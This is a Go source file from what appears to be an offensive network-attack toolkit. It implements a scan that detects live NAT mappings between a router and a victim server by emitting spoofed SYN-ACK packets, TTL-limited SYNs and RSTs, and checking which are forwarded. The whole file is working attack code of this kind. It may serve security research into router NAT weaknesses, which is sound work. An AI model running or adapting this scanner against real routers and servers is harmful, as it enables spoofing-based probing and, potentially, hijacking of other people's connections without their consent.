// Package portscan implements the NAT-mapped port-range detection
// attack (spec.md §4.5): for each candidate ephemeral port, decide
// whether the router currently holds a live NAT mapping to the victim
// server by racing a spoofed SYN-ACK against the router's own
// mapping table.
package portscan

import (
	"fmt"
	"io"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/hollowpoint-sec/natattack/internal/iface"
	"github.com/hollowpoint-sec/natattack/internal/packet"
	"github.com/hollowpoint-sec/natattack/internal/randgen"
	"github.com/hollowpoint-sec/natattack/internal/sendpolicy"
	"github.com/hollowpoint-sec/natattack/internal/topology"
)

// Options configures one scan run.
type Options struct {
	Start, End   uint16
	Timeout      time.Duration
	DumbTerminal bool
}

// Result is the per-port outcome of the scan.
type Result struct {
	Port     uint16
	Occupied bool
}

// Scan walks [opts.Start, opts.End] serially (spec.md: "ports are
// scanned serially; no parallelism") and reports each port's state.
// progress receives the live terminal output described in spec.md
// §4.5's last paragraph; pass nil to suppress it entirely.
func Scan(dev iface.Device, policy sendpolicy.Policy, topo topology.Topology, opts Options, progress io.Writer, logger logrus.FieldLogger) ([]Result, error) {
	if logger == nil {
		logger = logrus.StandardLogger()
	}

	var results []Result
	for port := opts.Start; ; port++ {
		occupied, err := scanOne(dev, policy, topo, port, opts.Timeout, logger)
		if err != nil {
			return results, err
		}
		results = append(results, Result{Port: port, Occupied: occupied})
		reportProgress(progress, port, occupied, opts.DumbTerminal)
		if port == opts.End {
			break
		}
	}
	if progress != nil && !opts.DumbTerminal {
		fmt.Fprintln(progress)
	}
	return results, nil
}

// reportProgress writes the interactive carriage-return progress line,
// or — in dumb-terminal mode — a bare, newline-terminated port number
// for each OCCUPIED result and nothing else. This control-code byte
// sequence is spec.md's literal wire-level requirement, so it is
// hand-written rather than routed through a terminal UI library (see
// SPEC_FULL.md §5.2).
func reportProgress(w io.Writer, port uint16, occupied bool, dumb bool) {
	if w == nil {
		return
	}
	if dumb {
		if occupied {
			fmt.Fprintln(w, port)
		}
		return
	}
	status := "FREE"
	if occupied {
		status = "OCCUPIED"
	}
	fmt.Fprintf(w, "\rport %d: %s\x1b[K", port, status)
}

func scanOne(dev iface.Device, policy sendpolicy.Policy, topo topology.Topology, port uint16, timeout time.Duration, logger logrus.FieldLogger) (bool, error) {
	attackerISN := randgen.Uint32()
	serverISN := randgen.Uint32()
	attackerAck := attackerISN + 1

	syn := packet.New()
	syn.Src = packet.Address{IP: topo.Attacker, Port: port}
	syn.Dst = topo.Server
	syn.TTL = topo.TTLDrop
	syn.Seq = attackerISN
	syn.SYN = true
	if err := policy.Emit(dev, &syn); err != nil {
		return false, err
	}

	synAck := packet.New()
	synAck.Src = topo.Server
	synAck.Dst = packet.Address{IP: topo.Router, Port: port}
	synAck.Seq = serverISN
	synAck.Ack = &attackerAck
	synAck.SYN = true
	if err := policy.Emit(dev, &synAck); err != nil {
		return false, err
	}

	expected := synAck.WithDst(packet.Address{IP: topo.Attacker, Port: port})
	resp, err := dev.Receive(func(p *packet.Packet) bool {
		return !p.RST && p.Equal(&expected)
	}, timeout)
	if err != nil {
		return false, err
	}

	serverAck := serverISN + 1
	rst := packet.New()
	rst.Src = packet.Address{IP: topo.Attacker, Port: port}
	rst.Dst = topo.Server
	rst.TTL = topo.TTLDrop
	rst.Seq = attackerAck
	rst.Ack = &serverAck
	rst.RST = true
	if err := policy.Emit(dev, &rst); err != nil {
		return false, err
	}

	occupied := resp == nil
	logger.WithFields(logrus.Fields{"port": port, "occupied": occupied}).Debug("port scan result")
	return occupied, nil
}
